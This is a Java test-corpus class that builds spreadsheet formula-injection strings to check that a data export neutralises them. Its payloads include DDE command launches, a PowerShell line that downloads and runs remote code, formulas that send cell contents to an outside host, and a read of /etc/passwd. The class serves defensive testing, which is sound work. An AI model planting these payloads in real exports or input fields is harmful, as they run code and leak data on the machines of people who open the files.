package org.roamledger.export;

import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/// Texts by which somebody who fills in an id or a name tries to have a formula run, or something
/// started, by the spreadsheet of whoever opens an export.
final class InjectionCorpus {

    /// What spreadsheets take for the begin of a formula, or skip before it.
    private static final List<String> BEGINNINGS =
            List.of(
                    "=", "+", "-", "@", "\t=", "\r=", "\n=", "\r\n=", "\t", "\r", "\n", "\uFF1D",
                    "\uFF0B", "\uFF0D", "\uFF20", " =", "  +", "\u00A0=", "\uFEFF=", "\u200B@");

    private static final List<String> ATTACKS =
            List.of(
                    "1+1",
                    "SUM(A1:A9)",
                    "cmd|' /C calc'!A0",
                    "cmd|'/C powershell IEX(wget 0r.pe/p)'!A1",
                    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
                    "rundll32|'URL.dll,OpenURL calc.exe'!A",
                    "DDE(\"cmd\";\"/C calc\";\"!A0\")",
                    "HYPERLINK(\"https://example.org/?x=\"&A1&A2,\"Error: click here\")",
                    "WEBSERVICE(\"https://example.org/\"&A1)",
                    "IMPORTXML(CONCAT(\"https://example.org/?v=\",CONCATENATE(A2:E2)),\"//a\")",
                    "IMAGE(\"https://example.org/\"&A1)",
                    "INDIRECT(\"R1C1\",FALSE)",
                    "'file:///etc/passwd'#$passwd.A1",
                    "2+3+cmd|' /C calc'!D2",
                    "1\",\"=1+1\"\r\n=2+2",
                    "\u0000cmd");

    /// Formulas that are written in full, some of which begin as no formula does.
    private static final List<String> OTHERS =
            List.of(
                    "=",
                    "+",
                    "-",
                    "@",
                    "-5",
                    "+49*810*000*438",
                    "=1+1;=2+2",
                    "\"=1+1\"",
                    "'=1+1",
                    ";=1+1",
                    ",=1+1",
                    "DE*ABC\n=1+1",
                    "\uFF1DSUM(A1)",
                    "{=SUM(A1:A2)}",
                    "_x003D_1+1",
                    "=1+1</t></is></c><c><f>1+1</f></c>",
                    "]]>=1+1",
                    "&#61;1+1");

    private InjectionCorpus() {}

    static Set<String> texts() {
        var texts = new LinkedHashSet<String>();
        for (var beginning : BEGINNINGS) {
            for (var attack : ATTACKS) {
                texts.add(beginning + attack);
            }
        }
        texts.addAll(OTHERS);
        return texts;
    }
}
